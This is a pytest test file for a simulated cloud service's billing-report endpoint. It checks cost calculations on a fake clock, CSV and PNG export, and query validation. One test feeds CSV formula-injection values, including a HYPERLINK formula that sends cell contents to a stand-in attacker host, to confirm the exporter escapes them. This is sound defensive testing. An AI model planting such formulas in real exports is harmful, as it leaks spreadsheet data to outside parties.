"""GET /v1/billing/report and the cost so far of an instance, on an injected clock."""

from __future__ import annotations

import csv
import datetime as dt
import io
import sys
import types
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal

import pytest

from computed.clock import FakeClock

T0 = dt.datetime(2026, 3, 1, 10, 30, tzinfo=dt.UTC)
DAY = "start=2026-03-01T00:00:00Z&end=2026-03-02T00:00:00Z"


@pytest.fixture
def history(make_app, wait):
    """One t3.micro (0.0104/h, tag team=a) running 10:30-12:00, stopped, then 30 s from 12:10."""
    def make(policy):
        clock = FakeClock(T0)
        app = make_app(clock=clock, billing_policy=policy)
        client, svc = app.test_client(), app.extensions["computed"]
        iid = client.post("/v1/instances", json={"size": "t3.micro", "tags": {"team": "a"}}).get_json()["instances"][0]["id"]
        wait(svc)
        clock.advance(minutes=90)
        client.post(f"/v1/instances/{iid}/stop")
        wait(svc)
        clock.advance(minutes=10)
        client.post(f"/v1/instances/{iid}/start")
        wait(svc)
        clock.advance(seconds=30)
        client.post(f"/v1/instances/{iid}/stop")
        wait(svc)
        clock.advance(hours=5)
        return client, iid
    return make


def test_hourly_report(history):
    client, iid = history("hourly")
    body = client.get(f"/v1/billing/report?{DAY}").get_json()
    assert body["policy"] == "hourly" and body["unit"] == "instance-hours"
    assert [(r["hour"][11:16], r["seconds_running"], r["quantity"], r["cost"]) for r in body["rows"]] == [
        ("10:00", 1800, "1", "0.0104"), ("11:00", 3600, "1", "0.0104"), ("12:00", 30, "1", "0.0104")]
    assert body["total"] == [{"currency": "USD", "cost": "0.0312"}]
    assert body["totals"]["tag"] == [{"key": "team=a", "currency": "USD", "cost": "0.0312"}]
    assert body["totals"]["size"] == [{"key": "t3.micro", "currency": "USD", "cost": "0.0312"}]
    assert client.get(f"/v1/instances/{iid}").get_json()["cost_so_far"] == "0.0312"


def test_per_second_report_and_csv(history):
    client, iid = history("per-second")
    body = client.get(f"/v1/billing/report?{DAY}&group_by=hour").get_json()
    assert [r["quantity"] for r in body["rows"]] == ["1800", "3600", "60"]  # 30 s run: the 60 s minimum
    rate = (Decimal("0.0104") / 3600).quantize(Decimal("1e-12"))
    assert Decimal(body["total"][0]["cost"]) == (1800 + 3600 + 60) * rate
    assert set(body["totals"]) == {"hour"}
    text = client.get(f"/v1/billing/report?{DAY}&format=csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["lineItem/UsageAmount"] for r in rows] == ["1800", "3600", "60"]
    assert {r["lineItem/ResourceId"] for r in rows} == {iid}
    assert rows[0]["lineItem/UsageStartDate"] == "2026-03-01T10:00:00Z"
    assert rows[0]["resourceTags/user:team"] == "a"
    assert sum(Decimal(r["lineItem/UnblendedCost"]) for r in rows) == Decimal(body["total"][0]["cost"])


@pytest.mark.parametrize("query, fragment", [
    ("start=2026-03-02T00:00:00Z&end=2026-03-01T00:00:00Z", "end must be after start"),
    ("start=yesterday&end=2026-03-01T00:00:00Z", "start"),
    ("start=2025-01-01T00:00:00Z&end=2026-03-01T00:00:00Z", "at most a year"),
    (f"{DAY}&group_by=colour", "group_by"),
    (f"{DAY}&format=xml", "format"),
    ("start=2026-03-01T00:00:00&end=2026-03-02T00:00:00", "aware"),
    ("end=2026-03-01T00:00:00Z", "start"),
    (f"{DAY}&bogus=1", "bogus"),
])
def test_bad_report_queries_are_400(client, query, fragment):
    response = client.get(f"/v1/billing/report?{query}")
    assert response.status_code == 400
    error = response.get_json()["error"]
    assert error["code"] in ("InvalidParameterValue", "MissingParameter") and fragment in error["message"]


def test_png_chart(history, tmp_path):
    client, _ = history("hourly")
    response = client.get(f"/v1/billing/report?{DAY}&format=png")
    assert response.status_code == 200 and response.mimetype == "image/png"
    assert response.data.startswith(b"\x89PNG\r\n\x1a\n") and len(response.data) > 5000
    (tmp_path / "chart.png").write_bytes(response.data)


class _Pyplot(types.ModuleType):
    """Stands in for matplotlib.pyplot: any use of it fails the request."""

    def __getattr__(self, name):
        raise AssertionError(f"the chart used pyplot.{name}: pyplot's global state is shared by request threads")


def test_png_charts_drawn_at_once_without_pyplot(history, monkeypatch):
    import matplotlib
    client, _ = history("hourly")
    poison = _Pyplot("matplotlib.pyplot")
    monkeypatch.setitem(sys.modules, "matplotlib.pyplot", poison)
    monkeypatch.setattr(matplotlib, "pyplot", poison, raising=False)
    serial = client.get(f"/v1/billing/report?{DAY}&format=png").data
    assert serial.startswith(b"\x89PNG")
    with ThreadPoolExecutor(8) as pool:
        drawn = list(pool.map(lambda _: client.get(f"/v1/billing/report?{DAY}&format=png").data, range(16)))
    assert all(png == serial for png in drawn)


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)"])
def test_csv_escapes_what_a_spreadsheet_would_run(make_app, wait, value):
    clock = FakeClock(T0)
    app = make_app(clock=clock)
    client, svc = app.test_client(), app.extensions["computed"]
    response = client.post("/v1/instances", json={"size": "t3.micro", "tags": {"note": value, "=key": "x"}})
    assert response.status_code == 202, response.get_json()
    wait(svc)
    clock.advance(hours=2)
    text = client.get(f"/v1/billing/report?{DAY}&format=csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(r["resourceTags/user:note"] == "'" + value for r in rows)
    assert all(r["resourceTags/user:=key"] == "x" for r in rows)  # the header starts with "resourceTags"
    assert rows[0]["lineItem/UsageAmount"] == "1"  # numbers stay numbers
